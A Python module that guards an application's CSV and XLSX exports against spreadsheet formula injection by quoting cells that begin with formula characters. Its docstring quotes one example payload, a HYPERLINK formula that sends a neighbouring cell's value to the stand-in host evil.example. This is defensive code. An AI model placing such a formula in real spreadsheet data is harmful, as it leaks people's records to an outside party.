"""Spreadsheet exports that cannot run code: every CSV and XLSX the suite writes goes through here.

A text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (OWASP "CSV Injection"): a citizen named
``=HYPERLINK("http://evil.example/?"&C2,"Lihat")`` would become a live link that leaks the next
cell. OWASP's advice is to prefix such a cell with a single quote. We also look past leading
whitespace: some importers trim it before deciding whether a cell is a formula, so ``" =1+1"``
is neutralised too. Numbers stay numbers (a negative number is not a formula); only text changes.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

from openpyxl.worksheet.worksheet import Worksheet

# What starts a formula, with the full-width forms that some East Asian spreadsheet locales accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_LEADING_BLANKS = " \n\x0b\x0c\u00a0\u3000"


def safe_cell(value):
    """``value`` as it may go into a spreadsheet cell: text that a spreadsheet would read as a
    formula gets a leading ``'``; everything else (numbers, dates, None, plain text) is unchanged."""
    if isinstance(value, str) and value.lstrip(_LEADING_BLANKS).startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def csv_text(rows: Iterable[Iterable]) -> str:
    """Rows as CSV text, every cell neutralised (the csv module quotes separators and quotes, so a
    value cannot open a new cell and smuggle a formula into the middle)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(safe_row(row))
    return buffer.getvalue()


def append_row(sheet: Worksheet, row: Iterable) -> None:
    """Append a neutralised row to an openpyxl sheet. openpyxl stores any string beginning with
    ``=`` as a formula, so every text cell is forced to the string type as well."""
    sheet.append(safe_row(row))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
